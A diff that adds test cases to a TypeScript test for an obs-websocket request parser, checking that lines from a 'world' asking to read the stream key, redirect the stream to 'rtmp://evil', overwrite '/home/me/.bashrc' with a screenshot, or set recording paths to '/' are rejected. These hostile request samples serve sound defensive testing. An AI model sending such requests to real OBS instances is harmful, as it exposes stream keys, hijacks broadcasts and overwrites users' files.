@@ -69,6 +69,13 @@ test('world lines become the obs-websocket requests the docs list', () => {
     ['obs|GetInputSettings|{inputName', /not JSON/],
     ['obs|GetInputSettings|[1]', /a JSON object/],
     ['dance|now', /unknown line "dance"/],
+    // Requests that read the stream key, send the stream elsewhere, or write files where a world says: no world may.
+    ['obs|GetStreamServiceSettings', /not sent to OBS from a world/],
+    ['obs|SetStreamServiceSettings|{"streamServiceType":"rtmp_custom","streamServiceSettings":{"server":"rtmp://evil"}}', /not sent to OBS from a world/],
+    ['obs|SaveSourceScreenshot|{"sourceName":"Cam","imageFormat":"png","imageFilePath":"/home/me/.bashrc"}', /not sent to OBS from a world/],
+    ['obs|SetRecordDirectory|{"recordDirectory":"/"}', /not sent to OBS from a world/],
+    ['obs|SetProfileParameter|{"parameterCategory":"SimpleOutput","parameterName":"FilePath","parameterValue":"/"}', /not sent to OBS from a world/],
+    ['obs|getstreamservicesettings', /not sent to OBS from a world/],
   ] as const) {
     const ask = readWorldLine(text);
     assert.equal(ask?.kind, 'mistake', text);
